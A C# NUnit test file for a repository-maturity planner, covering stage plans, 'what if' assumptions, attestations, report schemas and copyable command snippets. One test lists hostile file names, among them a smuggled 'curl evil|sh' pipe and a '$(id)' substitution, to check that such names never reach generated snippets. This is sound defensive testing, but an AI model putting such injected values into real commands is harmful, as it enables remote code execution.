using System.Collections.Immutable;
using System.Text;
using System.Text.Json;
using RepoMaturity.Core.Evaluation;
using RepoMaturity.Core.Reports;
using RepoMaturity.Core.Rules;
using RepoMaturity.Tests.Architecture;
using RepoMaturity.Tests.Golden;
using RepoMaturity.Tests.Reports;

namespace RepoMaturity.Tests.Plans;

/// <summary>Plans of the fixtures, and what is asked with "what if".</summary>
internal sealed class PlannerTests
{
    private static readonly Dictionary<string, Assessment> Scanned = new(StringComparer.Ordinal);

    public static IEnumerable<TestCaseData> Stages() =>
        from fixture in new[] { "ad-hoc", "dataops", "manual-mlops", "automated-mlops", "several-projects" }
        from framework in RuleSources.Rules.Frameworks
        from stage in framework.Stages
        select new TestCaseData(fixture, framework.Id, stage.Index);

    [TestCaseSource(nameof(Stages))]
    public void Who_raises_what_a_plan_says_stands_at_the_stage(string fixture, string framework, int stage)
    {
        var assessment = Scan(fixture);
        var result = assessment.Frameworks.First(each => each.Framework.Id == framework);
        var plan = new Planner(RuleSources.Rules, assessment).To(result, result.Framework.Stages.First(each => each.Index == stage))!;
        if (!plan.Unseen.IsEmpty || !plan.Beyond.IsEmpty)
        {
            return;
        }

        var levels = ImmutableSortedDictionary.CreateBuilder<string, Level>(StringComparer.Ordinal);
        foreach (var raise in plan.Steps.SelectMany(step => step.Raises))
        {
            levels[raise.Claim] = raise.To;
        }

        var after = new WhatIf(levels.ToImmutable(), []).Apply(assessment, RuleSources.Rules);
        Assert.That(after.Frameworks.First(each => each.Framework.Id == framework).Stage!.Index, Is.GreaterThanOrEqualTo(stage));
        Assert.That(plan.Steps.IsEmpty, Is.EqualTo(result.Stage!.Index >= stage), "nothing to do where the stage is reached, and only there");
    }

    [TestCase("src/train.py", true)]
    [TestCase("src/train model.py", true, Description = "quoted in commands")]
    [TestCase("src/train.py;curl evil|sh .py", false)]
    [TestCase("src/$(id).py", false)]
    [TestCase("src/a\": {run: x}.py", false)]
    [TestCase("-train.py", false)]
    public void A_file_is_named_in_a_snippet_only_where_its_name_is_plain(string path, bool isNamed)
    {
        var files = new Dictionary<string, string>(StringComparer.Ordinal)
        {
            ["requirements.txt"] = "scikit-learn==1.5.0\n",
            [path] = "from sklearn.linear_model import LinearRegression\nif __name__ == '__main__':\n    LinearRegression().fit(x, y)\n",
        };
        var assessment = Fixture.Scanner(RuleSources.Rules).Scan(new Subject(new Core.Snapshots.MemorySnapshot(files), "r"));
        var kaizen = assessment.Frameworks.First(each => each.Framework.Id == "kaizen-2023");
        var snippets = new Planner(RuleSources.Rules, assessment).To(kaizen, kaizen.Framework.Stages.First(stage => stage.Index == 4))!.Steps.Select(step => step.Change?.Snippet ?? string.Empty);
        Assert.That(snippets.Any(snippet => snippet.Contains(path, StringComparison.Ordinal)), Is.EqualTo(isNamed));
    }

    [Test]
    public void A_step_names_the_tools_and_files_of_the_repository()
    {
        var steps = Plan("dataops", 4).Steps;
        var training = steps.First(step => step.Claim.StartsWith("continuous-training", StringComparison.Ordinal));
        Assert.That(training.Text, Does.Contain("python src/train.py"));
        Assert.That(training.Change!.Snippet, Does.Contain("pip install -r requirements.txt").And.Contain("python src/train.py"));
        Assert.That(steps.Select(step => step.Why), Has.All.Not.Empty);
    }

    [Test]
    public void One_change_that_raises_several_is_one_step()
    {
        var steps = Plan("dataops", 4).Steps;
        Assert.That(steps.Where(step => step.Change is not null).Select(step => step.Change), Is.Unique);
        Assert.That(steps.Any(step => !step.Also.IsEmpty), Is.True);
    }

    [Test]
    public void An_aspect_does_not_come_before_its_practice()
    {
        foreach (var fixture in new[] { "ad-hoc", "dataops", "manual-mlops" })
        {
            var order = Plan(fixture, 5).Steps.SelectMany((step, i) => step.Raises.Select(raise => (raise.Claim, Place: i))).ToLookup(each => each.Claim, each => each.Place, StringComparer.Ordinal);
            Assert.That(order.Where(claim => claim.Key.Contains('/', StringComparison.Ordinal) && order[claim.Key[..claim.Key.IndexOf('/', StringComparison.Ordinal)]].Any(place => place > claim.Max())).Select(claim => claim.Key), Is.Empty, fixture);
        }
    }

    [Test]
    public void What_is_assumed_is_not_planned_and_is_said()
    {
        var plain = Plan("dataops", 3).Steps;
        var claim = plain.First(step => !step.Claim.Contains('/', StringComparison.Ordinal)).Claim;
        var after = WhatIf("dataops", (claim, Level.Automated));
        Assert.That(PlanOf(after, 3).Steps.SelectMany(step => step.Raises).Select(raise => raise.Claim), Does.Not.Contain(claim));
        Assert.That(after.Assumptions, Is.EqualTo(new[] { $"{claim} is automated" }));
        Assert.That(string.Join('\n', TextReport.Write(after, isVerbose: false)), Does.Contain("What if, not what is"));
        Assert.That(MarkdownReport.Write(after, isVerbose: false), Does.Contain("What if, not what is"));
        Assert.That(Encoding.UTF8.GetString(JsonReport.Write(after, new Tool("repomaturity", "1.2.3"))), Does.Contain("\"assumptions\""));
    }

    [Test]
    public void A_plan_leads_to_the_stage_that_is_wanted()
    {
        var plan = PlanOf(Wanting("dataops", "5"), null);
        Assert.That(plan.Target.Index, Is.EqualTo(5));
        Assert.That(plan.Steps, Is.Not.Empty);
        var done = Wanting("manual-mlops", "1");
        Assert.That(PlanOf(done, null).Steps, Is.Empty);
        Assert.That(done.Frameworks.SelectMany(result => result.Target is null ? [] : result.NextSteps), Is.Empty);
        Assert.That(string.Join('\n', TextReport.Write(done, isVerbose: false)), Does.Contain("nothing needs to be raised"));
        Assert.That(MarkdownReport.Write(done, isVerbose: false), Does.Contain("nothing needs to be raised"));
    }

    [Test]
    public void What_is_attested_needs_no_step_and_stays_so_in_a_what_if()
    {
        var practice = Plan("dataops", 4).Steps.First(step => !step.Claim.Contains('/', StringComparison.Ordinal)).Claim;
        var files = new Fixture("dataops").Files();
        files[".repomaturity.yml"] = $"attest:\n- {{ practice: {practice}, level: automated, statement: they do, owner: people, expires: 2027-01-01 }}\n";
        var assessment = ScanOf(files, null);
        Assert.That(assessment.Practices.First(each => each.Practice.Id == practice).Attested, Is.EqualTo(Level.Automated));
        Assert.That(PlanOf(assessment, 4).Steps.SelectMany(step => step.Raises).Select(raise => raise.Claim), Does.Not.Contain(practice));
        Assert.That(PlanOf(assessment, 4).Attested.Select(raise => raise.Claim), Does.Contain(practice));
        var after = new WhatIf(ImmutableSortedDictionary<string, Level>.Empty.Add("documentation", Level.Implemented), []).Apply(assessment, RuleSources.Rules);
        Assert.That(after.Frameworks.Select(result => result.WithAttestations is null), Is.EqualTo(assessment.Frameworks.Select(result => result.WithAttestations is null)));
        Assert.That(assessment.Frameworks.Any(result => result.WithAttestations is not null), Is.True);
    }

    [Test]
    public void Without_the_technology_that_starts_everything_nothing_runs_by_itself()
    {
        var before = Scan("automated-mlops");
        var after = new WhatIf(ImmutableSortedDictionary<string, Level>.Empty, ["github-actions"]).Apply(before, RuleSources.Rules);
        Assert.That(LevelOf(before, "continuous-training"), Is.EqualTo(Level.Automated));
        Assert.That(LevelOf(after, "continuous-training"), Is.EqualTo(Level.Implemented), "the pipeline is still there for a person to start");
        Assert.That(LevelOf(after, "continuous-integration"), Is.LessThan(Level.Automated));
        Assert.That(after.Technologies.Select(technology => technology.Rule.Id), Does.Not.Contain("github-actions"));
        Assert.That(Stage(after), Is.LessThan(Stage(before)));
    }

    [Test]
    public void Without_a_library_the_code_that_names_it_stays()
    {
        var before = Scan("automated-mlops");
        var after = new WhatIf(ImmutableSortedDictionary<string, Level>.Empty, ["mlflow"]).Apply(before, RuleSources.Rules);
        Assert.That(LevelOf(after, "model-registry"), Is.LessThan(LevelOf(before, "model-registry")));
        Assert.That(LevelOf(after, "training-as-code"), Is.EqualTo(LevelOf(before, "training-as-code")));
    }

    [TestCase("dataops", 4)]
    [TestCase("kaizen-mlops", 5)]
    [TestCase("kaizen-mlops", 0)]
    public void A_plan_in_json_keeps_to_its_schema(string fixture, int stage)
    {
        var json = PlanJson.Write(Scan(fixture), Scan(fixture).Frameworks[0], stage == 0 ? null : Plan(fixture, stage), new Tool("repomaturity", "1.2.3"));
        Assert.That(JsonSchema.Read(SourceTree.At("rules/schema/plan.schema.json")).Validate(JsonDocument.Parse(json).RootElement), Is.Empty);
    }

    [Test]
    public void A_report_with_all_its_steps_keeps_to_its_schema() =>
        Assert.That(JsonSchema.Read(SourceTree.At("rules/schema/report.schema.json")).Validate(JsonDocument.Parse(JsonReport.Write(WhatIf("ad-hoc", ("testing", Level.Implemented)), new Tool("repomaturity", "1.2.3"))).RootElement), Is.Empty);

    [Test]
    public void Text_and_markdown_hold_the_snippet_to_copy()
    {
        var assessment = Scan("dataops");
        var plan = Plan("dataops", 4);
        var line = plan.Steps.First(step => step.Change is not null).Change!.Snippet.Split('\n')[0];
        var result = assessment.Frameworks.First(each => each.Framework == plan.Framework);
        Assert.That(string.Join('\n', PlanText.Write(assessment, result, plan)), Does.Contain($"      | {line}\n"));
        Assert.That(PlanMarkdown.Write(assessment, result, plan), Does.Contain("- [ ] **").And.Contain($"\n  {line}\n"));
    }

    [Test]
    public void What_is_code_in_a_step_is_code_in_markdown()
    {
        var assessment = Scan("dataops");
        var plan = Plan("dataops", 4);
        var text = PlanMarkdown.Write(assessment, assessment.Frameworks.First(each => each.Framework == plan.Framework), plan);
        Assert.That(text, Does.Contain("`python src/train.py`").And.Not.Contain("\\`"));
    }

    private static Assessment WhatIf(string fixture, params (string Claim, Level Level)[] assumed) =>
        new WhatIf(assumed.ToImmutableSortedDictionary(each => each.Claim, each => each.Level, StringComparer.Ordinal), []).Apply(Scan(fixture), RuleSources.Rules);

    private static Plan Plan(string fixture, int stage) => PlanOf(Scan(fixture), stage);

    private static Plan PlanOf(Assessment assessment, int? stage)
    {
        var result = assessment.Frameworks.First(each => !each.Framework.Dimensions.IsEmpty);
        return new Planner(RuleSources.Rules, assessment).To(result, result.Framework.Stages.FirstOrDefault(each => each.Index == stage))!;
    }

    private static Assessment ScanOf(Dictionary<string, string> files, TargetRequest? target)
    {
        var snapshot = new Core.Snapshots.MemorySnapshot(files);
        return Fixture.Scanner(RuleSources.Rules).Scan(new Subject(snapshot, "r") { Target = target, Configuration = Core.Settings.ConfigurationFinder.Find(snapshot, RuleSources.Rules, new DateOnly(2026, 1, 1)) });
    }

    private static Assessment Wanting(string fixture, string stage) => ScanOf(new Fixture(fixture).Files(), new TargetRequest(stage, []));

    private static int Stage(Assessment assessment) => assessment.Frameworks.First(each => !each.Framework.Dimensions.IsEmpty).Stage!.Index;

    private static Level LevelOf(Assessment assessment, string practice) => assessment.Practices.First(each => each.Practice.Id == practice).Level;

    private static Assessment Scan(string fixture)
    {
        lock (Scanned)
        {
            if (!Scanned.TryGetValue(fixture, out var known))
            {
                Scanned.Add(fixture, known = Fixture.Scanner(RuleSources.Rules).Scan(new Subject(new Core.Snapshots.MemorySnapshot(new Fixture(fixture).Files()), fixture) { Frameworks = ["all"] }));
            }

            return known;
        }
    }
}
